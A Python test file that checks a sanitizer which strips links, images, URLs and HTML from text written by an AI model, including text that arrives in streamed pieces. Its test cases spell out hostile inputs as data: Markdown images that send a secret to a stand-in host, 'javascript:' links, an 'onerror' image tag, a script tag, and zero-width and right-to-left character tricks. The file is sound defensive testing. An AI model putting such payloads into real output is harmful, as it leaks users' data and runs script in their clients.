"""What a model wrote is shown without anything that a client could follow, fetch or run."""

from __future__ import annotations

import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from domain.rules.sanitize import LONGEST_HELD, REMOVED, InertStream, inert

ACTIVE = re.compile(r"\][(\[:]|<[A-Za-z/!?]|://|www\.|&#|&\w+;", re.IGNORECASE)
"""What every Markdown needs to make a link, a picture or markup."""

HOSTILE = st.lists(
    st.sampled_from(
        ["[", "]", "(", ")", "!", "<", ">", ":", "//", "http", "https://e.example/?q=", "www.", "javascript:", "img ",
         "a", " ", "\n", "\n\n", "src=", '"', "\\", "&#58;", "&lt;", "\u200b", "\u202e", "`", "*", "x" * 50]
    ),
    max_size=40,
).map("".join)  # fmt: skip


def streamed(text: str, size: int) -> str:
    """What a reader gets of a text that comes `size` characters at a time."""
    stream = InertStream()
    return "".join(stream.feed(text[at : at + size]) for at in range(0, len(text), size)) + stream.rest()


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("A ![cat](https://evil.example/?q=secret) sleeps.", "A cat sleeps."),
        ("[click here](https://evil.example) now", "click here now"),
        ("[![alt](http://e/x.png)](http://e)", "alt"),
        ("[x](javascript:alert(1))", "x"),
        ("[a\nb](http://e)", "a\nb"),
        ("![pic][1]\n\n[1]: http://e/?q=secret\n", "pic\n\n"),
        ("See https://evil.example/a?b=c, please.", f"See {REMOVED} please."),
        ("See <https://evil.example>.", "See ."),
        ("www.evil.example is gone", f"{REMOVED} is gone"),
        ("<img src=x onerror=alert(1)>Hello", "Hello"),
        ("<script>steal()</script>", "steal()"),
        ("ht\u200btps://evil.example", REMOVED),
        ("a \u202etxt.exe", "a txt.exe"),
    ],
)
def test_links_become_words_and_addresses_vanish(written: str, shown: str) -> None:
    assert inert(written) == shown


@pytest.mark.parametrize(
    "harmless",
    [
        "**Anna** at the lake, 12:30, f/2.8 & ISO 100.",
        "- one\n- two [2] (see below)\n\n# Heading\n`code`",
        "3 < 4, and the data: it is all here",
        "Mail from anna@example.org: she comes at 5.",
        "Überall 雪, and a smile :-)",
    ],
)
def test_what_is_no_link_stays_as_it_was_written(harmless: str) -> None:
    assert inert(harmless) == harmless


@given(HOSTILE)
def test_no_text_whatever_leaves_anything_that_begins_a_link(text: str) -> None:
    assert not ACTIVE.search(inert(text))


@given(HOSTILE, st.integers(1, 7))
def test_the_same_holds_for_text_that_comes_in_pieces(text: str, size: int) -> None:
    assert not ACTIVE.search(streamed(text, size))


@example("javascript:<!")
@given(HOSTILE)
def test_to_do_it_twice_changes_nothing_more(text: str) -> None:
    assert inert(inert(text)) == inert(text)


@pytest.mark.parametrize("size", [1, 3, 10])
def test_a_stream_shows_what_the_whole_text_would(size: int) -> None:
    text = "Here is [the lake](http://e/?q=1) with ![a boat\non it](http://e/2) and [1], https://e/3 too.\n\nEnd <b>"
    assert streamed(text, size) == inert(text)


def test_words_are_shown_as_they_come() -> None:
    stream = InertStream()
    assert [stream.feed(piece) for piece in ("The ", "la", "ke ", "is")] == ["The ", "", "lake ", ""]
    assert stream.rest() == "is"


def test_a_bracket_that_never_closes_does_not_hold_up_the_text_for_ever() -> None:
    stream = InertStream()
    shown = "".join(stream.feed("[word ") for _ in range(LONGEST_HELD))
    assert len(shown) > LONGEST_HELD
